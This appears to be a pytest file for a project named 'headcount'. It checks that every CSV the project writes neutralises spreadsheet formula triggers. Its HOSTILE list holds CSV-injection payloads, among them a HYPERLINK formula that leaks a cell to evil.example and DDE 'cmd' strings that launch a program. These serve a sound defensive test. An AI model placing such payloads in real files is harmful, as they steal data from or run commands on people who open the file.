"""No CSV this project writes starts a cell with a formula trigger (OWASP "CSV Injection"):
public and full exports, changes.csv, ``--format csv`` tables, trace results."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from sqlalchemy import update

from headcount.csvsafe import TRIGGERS, safe_cell, safe_frame
from headcount.store import schema as s

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+7 Иванов",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _dangerous(cells: list[str]) -> list[str]:
    def number(c: str) -> bool:
        try:
            float(c)
        except ValueError:
            return False
        return True

    return [c for c in cells if c.startswith(TRIGGERS) and not number(c)]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_trigger_is_neutralised_and_numbers_are_kept(value: str) -> None:
    assert safe_cell(value) == "'" + value.replace("\r", "\n")
    for number in ("-12", "+3.5", "-0.25", "1e-3"):
        assert safe_cell(number) == number
    assert safe_cell("Иванов") == "Иванов" and safe_cell(None) is None and safe_cell(-3) == -3
    df = pd.DataFrame({"a": [value, "x"], "n": [-1, 2]})
    assert safe_frame(df)["a"].tolist() == [safe_cell(value), "x"]
    assert safe_frame(df)["n"].tolist() == [-1, 2]


def _poison(demo: Any) -> list[str]:
    """Hostile names and quotes into a copy of some persons and mentions."""
    with demo.engine.begin() as conn:
        ids = [r.id for r in conn.execute(s.person.select().limit(len(HOSTILE)))]
        for pid, value in zip(ids, HOSTILE, strict=False):
            conn.execute(update(s.person).where(s.person.c.id == pid).values(name=value))
    return ids


@pytest.mark.parametrize("public", [True, False])
def test_exports_write_no_formula(demo: Any, tmp_path: Path, public: bool) -> None:
    from headcount.publish import export_registry

    with demo.engine.connect() as conn:
        before = {r.id: r.name for r in conn.execute(s.person.select())}
    try:
        _poison(demo)
        out = tmp_path / "csv"
        export_registry(demo.engine, demo.workspace, "csv", out, public=public, record=False)
        found = []
        for f in sorted(out.glob("*.csv")):
            with f.open(newline="", encoding="utf-8") as fh:  # as a spreadsheet reads it
                found += _dangerous([c for line in fh.read().split("\r") for c in _cells(line)])
        assert not found, found
        persons = (out / "persons.csv").read_text("utf-8")
        assert "'=HYPERLINK" in persons  # kept, as text
    finally:
        with demo.engine.begin() as conn:
            for pid, name in before.items():
                conn.execute(update(s.person).where(s.person.c.id == pid).values(name=name))


def test_trace_and_table_csv_write_no_formula(demo: Any, capsys: Any) -> None:
    from headcount.console import OutputFormat, emit
    from headcount.trace import trace_table
    from headcount.trace.output import to_csv

    df = pd.DataFrame({"full_name": HOSTILE, "dob": ["1990-01-01"] * len(HOSTILE)})
    result = trace_table(df, demo.engine)
    assert not _dangerous(_cells(to_csv(result)))
    emit([{"name": v, "n": -1} for v in HOSTILE], OutputFormat.csv)
    printed = _cells(capsys.readouterr().out)
    assert not _dangerous(printed) and "-1" in printed
